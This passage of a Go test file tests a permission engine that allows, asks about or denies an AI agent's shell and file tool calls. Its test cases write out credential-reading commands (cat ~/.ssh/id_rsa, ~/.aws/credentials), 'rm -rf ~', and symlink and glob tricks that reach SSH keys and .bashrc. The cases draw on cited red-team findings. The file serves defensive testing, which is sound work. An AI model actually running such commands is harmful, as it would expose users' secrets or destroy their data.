	shell := &provider.Tool{Function: provider.ToolFunction{Name: "run_shell"}, Annotations: &provider.Annotations{ReadOnlyHint: ptr(false)}}
	d = decide(t, scoped, call("run_shell", `{"input":"cat /srv/prod/db.conf","cwd":"/srv/app"}`), shell)
	assert.Equal(t, rules.Deny, d.Decision, "the shell tool's input is read")
	reader := &provider.Tool{Function: provider.ToolFunction{Name: "lookup"}, Annotations: &provider.Annotations{ReadOnlyHint: ptr(true)}}
	d = decide(t, scoped, call("lookup", `{"input":"~/notes"}`), reader)
	assert.Equal(t, rules.Allow, d.Decision, "the read-only tool's input is data")

	// Only an allow rule carries marks; a location is a name or a JSON Pointer.
	for _, bad := range []rules.Rule{
		{Tool: "redis_*", Decision: "ask", Data: []string{"key"}},
		{Tool: "redis_*", Decision: "deny", Data: []string{"key"}},
		{Tool: "redis_*", Decision: "allow", Data: []string{""}},
		{Tool: "redis_*", Decision: "allow", Data: []string{"reason"}},
		{Tool: "redis_*", Decision: "allow", Data: []string{"/rows//cells"}},
		{Tool: "redis_*", Decision: "allow", Data: []string{"/a~2b"}},
	} {
		_, err := rules.Validate(bad, "rule 1")
		var ve *rules.ValidationError
		if assert.ErrorAs(t, err, &ve, "%+v", bad) {
			assert.Equal(t, "data", ve.Field)
		}
	}
	_, err = rules.ParseRules([]byte(`[{"tool":"x","decision":"allow","data":"key"}]`), "rules.json")
	assert.ErrorContains(t, err, "data")
}

// Where the tools run on this machine, "~" is the home the server has: a
// command line with "~/project" is read under it, and a secret there is
// the known secret. Without a home, "~" cannot be evaluated.
func TestHomeNamesTilde(t *testing.T) {
	rs := []rules.Rule{{Tool: "run_command", Decision: "allow", Under: "/home/u/project"}, {Tool: "read_file", Decision: "allow"}}
	local := engine(t, rules.Config{Roots: map[string]string{"*": "/home/u/project"}, Home: "/home/u", Rules: rs})
	remote := engine(t, rules.Config{Roots: map[string]string{"*": "/home/u/project"}, Rules: rs})
	for _, c := range []struct {
		tool, args    string
		local, remote rules.Reason
		localDecision verdict.Decision
	}{
		{"run_command", `{"command":"cd ~/project && ls -la"}`, rules.ReasonRule, rules.ReasonUnevaluable, rules.Allow},
		{"run_command", `{"command":"ls ~/Downloads"}`, rules.ReasonNoMatch, rules.ReasonUnevaluable, rules.Ask},
		{"run_command", `{"command":"cat ~/.ssh/id_rsa"}`, rules.ReasonFloor, rules.ReasonFloor, rules.Ask},
		{"read_file", `{"path":"~/notes.md"}`, rules.ReasonRule, rules.ReasonUnevaluable, rules.Allow},
		{"read_file", `{"path":"~/.aws/credentials"}`, rules.ReasonFloor, rules.ReasonFloor, rules.Ask},
	} {
		d := decide(t, local, call(c.tool, c.args), nil)
		assert.Equal(t, c.local, d.Reason, "home known: %s", c.args)
		assert.Equal(t, c.localDecision, d.Decision, "home known: %s", c.args)
		assert.Equal(t, c.remote, decide(t, remote, call(c.tool, c.args), nil).Reason, "no home: %s", c.args)
	}
	_, err := rules.NewEngine(context.Background(), rules.Config{Home: "home/u"})
	assert.ErrorContains(t, err, "home")

	// A home the floor would not know by its name is a whole tree to it
	// all the same (fault round: rm -rf ~ with --home /tmp/pf/root).
	odd := engine(t, rules.Config{Roots: map[string]string{"*": "/srv/proj"}, Home: "/srv/u",
		Rules: []rules.Rule{{Tool: "run_command", Decision: "allow"}}})
	d := decide(t, odd, call("run_command", `{"command":"rm -rf ~"}`), nil)
	assert.Equal(t, rules.ReasonFloor, d.Reason, "%+v", d)
}

// Where the server runs on this machine, a path is also read as the file
// system resolves it: a link inside an allowed directory that leads to
// ~/.ssh writes into ~/.ssh, and is asked (outside round on links). A
// dangling or looping link cannot be told, and is asked too. Read
// lexically, as for a server elsewhere, the same call is allowed.
func TestResolveLinks(t *testing.T) {
	top, err := filepath.EvalSymlinks(t.TempDir())
	require.NoError(t, err)
	proj, home := filepath.Join(top, "proj"), filepath.Join(top, "home")
	for _, d := range []string{filepath.Join(proj, "docs"), filepath.Join(home, ".ssh"), filepath.Join(top, "elsewhere")} {
		require.NoError(t, os.MkdirAll(d, 0o755))
	}
	require.NoError(t, os.Symlink(filepath.Join(home, ".ssh"), filepath.Join(proj, "docs", "keys")))
	require.NoError(t, os.Symlink(filepath.Join(top, "elsewhere"), filepath.Join(proj, "docs", "out")))
	require.NoError(t, os.Symlink(filepath.Join(top, "nowhere"), filepath.Join(proj, "docs", "dangling")))
	require.NoError(t, os.Symlink(filepath.Join(proj, "docs", "loop"), filepath.Join(proj, "docs", "loop")))
	require.NoError(t, os.MkdirAll(filepath.Join(proj, "docs", "a", "b"), 0o755))
	require.NoError(t, os.Symlink(filepath.Join(proj, "docs", "a", "b"), filepath.Join(proj, "docs", "deep")))
	require.NoError(t, os.WriteFile(filepath.Join(home, ".bashrc"), nil, 0o600))
	require.NoError(t, os.Symlink(filepath.Join(home, ".bashrc"), filepath.Join(proj, "docs", "evil")))
	rs := []rules.Rule{{Tool: "write_file", Decision: "allow", Under: filepath.Join(proj, "docs")}}
	local := engine(t, rules.Config{Roots: map[string]string{"*": proj}, Rules: rs, ResolveLinks: true})
	lexical := engine(t, rules.Config{Roots: map[string]string{"*": proj}, Rules: rs})
	for _, c := range []struct {
		path          string
		local, remote rules.Reason
	}{
		{"docs/notes.md", rules.ReasonRule, rules.ReasonRule},
		{"docs/new/dir/notes.md", rules.ReasonRule, rules.ReasonRule},
		{"docs/keys/x", rules.ReasonFloor, rules.ReasonRule},
		{"docs/out/x.txt", rules.ReasonNoMatch, rules.ReasonRule},
		{"docs/dangling", rules.ReasonUnevaluable, rules.ReasonRule},
		{"docs/loop/x", rules.ReasonUnevaluable, rules.ReasonRule},
		// The kernel goes up from where the link leads: out/.. is top,
		// not docs, and keys/.. is home.
		{"docs/out/../x.txt", rules.ReasonNoMatch, rules.ReasonRule},
		{"docs/keys/../.ssh/id_rsa", rules.ReasonFloor, rules.ReasonFloor},
		{"docs/keys/../.bashrc", rules.ReasonFloor, rules.ReasonFloor},
		{"docs/keys/../notes.md", rules.ReasonNoMatch, rules.ReasonRule},
		{filepath.Join(proj, "docs") + "/out/../y.txt", rules.ReasonNoMatch, rules.ReasonRule},
		{"docs/new/../notes.md", rules.ReasonRule, rules.ReasonRule}, // no link on the way: as cleaned
		// The kernel's walk of deep/../evil is docs/a/evil, in docs; a
		// server that cleans the path first opens docs/evil, a link to
		// ~/.bashrc: both readings are resolved.
		{"docs/deep/../evil", rules.ReasonFloor, rules.ReasonRule},
		{filepath.Join(proj, "docs") + "/deep/../evil", rules.ReasonFloor, rules.ReasonRule},
		{"docs/deep/../notes.md", rules.ReasonRule, rules.ReasonRule},
	} {
		args := fmt.Sprintf(`{"path":%q,"content":"x"}`, c.path)
		d := decide(t, local, call("write_file", args), nil)
		assert.Equal(t, c.local, d.Reason, "links resolved: %s", c.path)
		assert.Equal(t, c.local == rules.ReasonRule, d.Decision == rules.Allow, "links resolved: %s", c.path)
		assert.Equal(t, c.remote, decide(t, lexical, call("write_file", args), nil).Reason, "read lexically: %s", c.path)
	}
}

// A command that follows the links it finds as it reads a tree (grep -R,
// zip -r, cp -rL, tar -h, rg -L) reads where they lead: a link in a
// cloned project to ~/.ssh is a read of the keys, and is asked where the
// server runs here. One that stores or skips links (grep -r, zip -y,
// cp -r) reads only the project.
func TestTreeReadsFollowLinks(t *testing.T) {
	top, err := filepath.EvalSymlinks(t.TempDir())
	require.NoError(t, err)
	proj, home := filepath.Join(top, "proj"), filepath.Join(top, "home")
	for _, d := range []string{filepath.Join(proj, "src"), filepath.Join(home, ".ssh")} {
		require.NoError(t, os.MkdirAll(d, 0o755))
	}
	require.NoError(t, os.WriteFile(filepath.Join(home, ".ssh", "id_rsa"), []byte("k"), 0o600))
	require.NoError(t, os.Symlink(filepath.Join(home, ".ssh"), filepath.Join(proj, "src", "vendor")))
	rs := []rules.Rule{{Tool: "run_command", Decision: "allow", Under: proj}}
	local := engine(t, rules.Config{Roots: map[string]string{"*": proj}, Rules: rs, ResolveLinks: true})
	lexical := engine(t, rules.Config{Roots: map[string]string{"*": proj}, Rules: rs})
	for line, follows := range map[string]bool{
		"grep -R TOKEN .": true, "zip -r o.zip src": true, "cp -rL src " + proj + "/copy": true, "tar czhf o.tgz .": true,
		"rg -L TOKEN": true, "find -L . -exec cat {} +": true,
		"grep -r TOKEN .": false, "zip -ry o.zip src": false, "cp -r src " + proj + "/copy": false, "tar czf o.tgz .": false, "rg TOKEN": false,
	} {
		args := fmt.Sprintf(`{"command":%q,"cwd":%q}`, line, proj)
		d := decide(t, local, call("run_command", args), nil)
		if follows {
			assert.Equal(t, rules.ReasonFloor, d.Reason, "links resolved: %s: %+v", line, d)
		} else {
			assert.Equal(t, rules.Allow, d.Decision, "links resolved: %s: %+v", line, d)
		}
		assert.Equal(t, rules.Allow, decide(t, lexical, call("run_command", args), nil).Decision, "read lexically: %s", line)
	}
}

// A glob's matches are opened through whatever links they are (red team
// 40): with src/notes.txt a link to ~/.ssh/id_rsa, cat src/*.txt and a
// loop over the glob read the key, and are asked where the server runs
// here, as cat src/notes.txt is. A glob over a directory of no links is
// not.
func TestGlobMatchesAreOpenedThroughLinks(t *testing.T) {
	top, err := filepath.EvalSymlinks(t.TempDir())
	require.NoError(t, err)
	proj, home := filepath.Join(top, "proj"), filepath.Join(top, "home")
	for _, d := range []string{filepath.Join(proj, "src"), filepath.Join(proj, "docs"), filepath.Join(home, ".ssh")} {
		require.NoError(t, os.MkdirAll(d, 0o755))
	}
	require.NoError(t, os.WriteFile(filepath.Join(home, ".ssh", "id_rsa"), []byte("k"), 0o600))
	require.NoError(t, os.WriteFile(filepath.Join(proj, "docs", "a.md"), []byte("a"), 0o600))
	require.NoError(t, os.Symlink(filepath.Join(home, ".ssh", "id_rsa"), filepath.Join(proj, "src", "notes.txt")))
	local := engine(t, rules.Config{Roots: map[string]string{"*": proj}, ResolveLinks: true,
		Rules: []rules.Rule{{Tool: "run_command", Decision: "allow", Under: proj}}})
	for line, want := range map[string]verdict.Decision{
		"cat src/notes.txt":                       rules.Ask,
		"cat src/*.txt":                           rules.Ask,
		`for f in src/*.txt; do cat "$f"; done`:   rules.Ask,
		"cat docs/*.md":                           rules.Allow,
		`for f in docs/*.md; do wc -l "$f"; done`: rules.Allow,
	} {
		args := fmt.Sprintf(`{"command":%q,"cwd":%q}`, line, proj)
		assert.Equal(t, want, decide(t, local, call("run_command", args), nil).Decision, line)
	}
}

// With the shell tool allowed as a whole, a command that reads every file
// under a directory where secrets are kept is still asked, by the floor;
// the same command over a project is not.
func TestTreeReadsOfSecretsAreAskedUnderABareAllow(t *testing.T) {
	e := engine(t, rules.Config{Roots: map[string]string{"*": "/srv/app"}, Home: "/home/u",
		Rules: []rules.Rule{{Tool: "run_command", Decision: "allow"}}})
	for _, line := range []string{
		"grep -r TOKEN /home/u", "rg -uuu x /home/u", "cd ~ && rg TOKEN", "tar czf /tmp/h.tgz /home/u", "tar -rf x.tar /home/u",
		"cp -r /home/u/.config /tmp/x", "cp --recu /home/u .", "rsync --rec /home/u .", "7za a x.7z /home/u", "zip -r x.zip /etc",
		"git grep --no-index x /home/u", "ugrep -r x /home/u", "diff -rN /home/u /srv/app", "grep -r x /proc",
		"grep -r x /etc/kubernetes", "find /home/u -type f -exec cat {} +", "find /home/u -type f | xargs cat", "fd . /home/u -x cat",
	} {
		d := decide(t, e, call("run_command", fmt.Sprintf(`{"command":%q,"cwd":"/srv/app"}`, line)), nil)
		assert.Equal(t, rules.ReasonFloor, d.Reason, "%s: %+v", line, d)
	}
	for _, line := range []string{"grep -rn TODO .", "rg foo src", "tar czf out.tgz src", "cp -r src dst", "find src -type f -exec wc -l {} +",
		"find . -name '*.py' | xargs wc -l", "git ls-files | xargs wc -l", "diff -r a b"} {
		d := decide(t, e, call("run_command", fmt.Sprintf(`{"command":%q,"cwd":"/srv/app"}`, line)), nil)
		assert.Equal(t, rules.Allow, d.Decision, "%s: %+v", line, d)
	}
}
